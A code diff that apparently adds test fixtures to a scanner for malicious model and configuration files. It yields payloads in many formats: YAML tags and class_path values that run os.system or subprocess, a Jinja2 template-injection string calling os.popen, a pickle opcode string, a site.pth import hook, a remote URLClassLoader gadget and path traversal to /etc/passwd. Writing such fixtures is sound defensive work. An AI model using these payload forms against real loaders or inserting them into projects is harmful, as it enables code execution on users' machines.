@@ -154,6 +154,39 @@ def text_attacks() -> Iterator[tuple[str, bytes]]:
     yield "behind_header.safetensors", struct.pack("<Q", len(header)) + header + body
 
 
+def instantiated_attacks() -> Iterator[tuple[str, bytes]]:
+    """Yield configurations whose libraries make objects, import modules or read files by the names in them."""
+    yield "speechbrain_new.yaml", b"model: !new:os.system\n  command: echo x\n"
+    yield "speechbrain_apply.yaml", b"seed: !apply:subprocess.call [echo x]\n"
+    yield (
+        "imports.gin",
+        b"from __gin__ import dynamic_registration\nimport os\nrun.act = @os.system()\nos.system.command = 'x'\n",
+    )
+    yield "class_path.yaml", b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: echo x\n"
+    yield "class_path.json", b'{"model":{"class_path":"os.system","init_args":{"command":"echo x"}}}'
+    yield (
+        "java_tag.yaml",
+        b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]\n',
+    )
+    yield "trusting.yaml", b"model:\n  trust_remote_code: true\n  pretrained: evil/model\n"
+    template = "{{ cycler.__init__.__globals__.os.popen('x').read() }}"
+    yield "prompt.json", json.dumps({"_type": "prompt", "template_format": "jinja2", "template": template}).encode()
+    library = {"model": {"decoder": {"session_options": {"custom_ops_library": "../x.so"}}}}
+    yield "genai_config.json", json.dumps(library).encode()
+    manifest = [{"paths": ["../../../etc/passwd"], "weights": []}]
+    yield "shards_outside.json", json.dumps({"modelTopology": {}, "weightsManifest": manifest}).encode()
+    yield (
+        ".zarray",
+        b'{"zarr_format":2,"dtype":"|O","compressor":{"id":"blosc"},"filters":[{"id":"pickle","protocol":5}]}',
+    )
+    serialized = base64.b64encode(b"cos\nsystem\n(Vecho x\ntR.").decode()
+    data = json.dumps({"policy_class": {":serialized:": serialized}}).encode()
+    yield "stable_baselines.zip", zipped([("data", data), ("policy.pth", b"")])
+    yield "site.pth", b"import os; os.system('echo x')\n"
+    layer = b"\x0a\x01p\x12\x06Python\x92\x08\x0c\x0a\x02os\x12\x06system"
+    yield "python_layer.caffemodel", b"\x0a\x03net\xa2\x06" + bytes([len(layer)]) + layer
+
+
 def gguf(fields: dict[str, str]) -> bytes:
     """Return a GGUF file with texts as its metadata."""
     data = b"GGUF" + struct.pack("<IQQ", 3, 0, len(fields))
